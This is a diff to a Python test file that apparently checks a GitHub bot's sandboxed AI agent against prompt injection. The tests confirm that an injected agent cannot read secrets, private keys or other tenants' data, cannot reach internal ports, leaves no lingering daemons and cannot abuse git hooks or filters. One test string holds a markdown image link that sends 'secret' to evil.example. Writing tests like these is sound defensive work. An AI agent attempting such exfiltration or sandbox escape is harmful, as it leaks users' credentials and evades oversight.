@@ -93,9 +93,11 @@ async def test_an_injected_agent_gets_nothing(
     data = s.data_dir.absolute()
     other_mirror = data / "mirrors" / victim.owner / f"{victim.name}.git"
     other_checkout = data / "checkouts" / victim.owner / victim.name / "0" / "work"
-    assert (other_mirror / "config").is_file() and (other_checkout / "CANARY.txt").is_file()
+    assert (other_mirror / "config").is_file()
+    assert (other_checkout / "CANARY.txt").is_file()
     key_path = s.github_private_key_path
-    assert key_path is not None and key_path.is_file()
+    assert key_path is not None
+    assert key_path.is_file()
     ports = [
         port(f"http://{temporal_address}"),
         port(otto.server.url),
@@ -168,11 +170,13 @@ echo attack-done
         for decoded in _decodings(loot(name)):
             for secret in _secrets(otto):
                 assert secret not in decoded, f"{name} leaked a secret"
-    assert "OTTO_" not in loot("environ.txt") and "ANTHROPIC" not in loot("environ.txt")
+    assert "OTTO_" not in loot("environ.txt")
+    assert "ANTHROPIC" not in loot("environ.txt")
     assert "No such file" in loot("key.txt")
     assert str(key_path) not in loot("pems.txt")
     # another tenant: its mirror, checkout and canary are not there
-    assert canary not in loot("tenant.txt") and "No such file" in loot("tenant.txt")
+    assert canary not in loot("tenant.txt")
+    assert "No such file" in loot("tenant.txt")
     assert victim.owner not in loot("datadir.txt")
     # Temporal, Otto, the simulator, the model: unreachable (a forged signal has nowhere to go)
     assert loot("ports.txt").split("\n")[:4] == [f"closed {p}" for p in ports]
@@ -185,9 +189,11 @@ echo attack-done
     # no daemon outlived the step
     assert await eventually(lambda: not _running(f"daemon-{token}"), within=5)
     # the filter, hook and insteadOf were for the sandbox's own git only: Otto's never ran or followed them
-    assert not (host_tmp / f"filter-{token}").exists() and not (host_tmp / f"hook-{token}").exists()
+    assert not (host_tmp / f"filter-{token}").exists()
+    assert not (host_tmp / f"hook-{token}").exists()
     mirror = data / "mirrors" / r.owner / f"{r.name}.git"
-    assert "pwn" not in (mirror / "config").read_text() and "insteadOf" not in (mirror / "config").read_text()
+    assert "pwn" not in (mirror / "config").read_text()
+    assert "insteadOf" not in (mirror / "config").read_text()
     pr = pr_of(otto, r, branch)  # the push and the PR went to the real remote
     assert otto.sim.read_file(r.owner, r.name, branch, "greeter/extra.py") == "X = 1\n"
     assert otto.sim.read_file(r.owner, r.name, branch, ".git/config") is None
@@ -231,7 +237,9 @@ async def test_changes_that_may_not_cross_the_boundary_are_refused_and_said(
     assert otto.sim.read_file(r.owner, r.name, rec.branch, "helper.py") == "H = 1\n"
     pr = pr_of(otto, r, rec.branch)
     body = pr.body or ""
-    assert "Changes Otto refused to commit" in body and "`passwd-link`" in body and "paths_denied" in body
+    assert "Changes Otto refused to commit" in body
+    assert "`passwd-link`" in body
+    assert "paths_denied" in body
     await status_comment(otto, r, number, "5 change(s) refused")
 
 
@@ -252,7 +260,8 @@ async def test_an_outsiders_look_alike_status_comment_is_never_adopted(
     comments = otto.sim.comments(r.owner, r.name, number)
     theirs = [c for c in comments if c.user.login == r.outsider]
     assert [c.body for c in theirs] == [fake]  # untouched
-    assert mine.user.login == "otto[bot]" and mine.id != theirs[0].id
+    assert mine.user.login == "otto[bot]"
+    assert mine.id != theirs[0].id
 
 
 async def test_the_issue_text_is_the_one_the_maintainer_labeled(
@@ -274,12 +283,16 @@ async def test_the_issue_text_is_the_one_the_maintainer_labeled(
     prompts = [
         str(req.body) for req in otto.world.model.requests if seen in str(req.body) or edited in str(req.body)
     ]
-    assert prompts and all(seen in p and edited not in p for p in prompts)
+    assert prompts
+    assert all(seen in p and edited not in p for p in prompts)
 
 
 def test_neutralised_markdown_pings_nobody_and_loads_nothing() -> None:
     text = neutralise_markdown(
         "Done @octocat, closes #12. ![x](https://evil.example/?d=secret) <img src=https://evil.example/p.png>"
     )
-    assert "@octocat" not in text and "#12" not in text
-    assert "![" not in text and "<img" not in text and "&lt;img" in text
+    assert "@octocat" not in text
+    assert "#12" not in text
+    assert "![" not in text
+    assert "<img" not in text
+    assert "&lt;img" in text
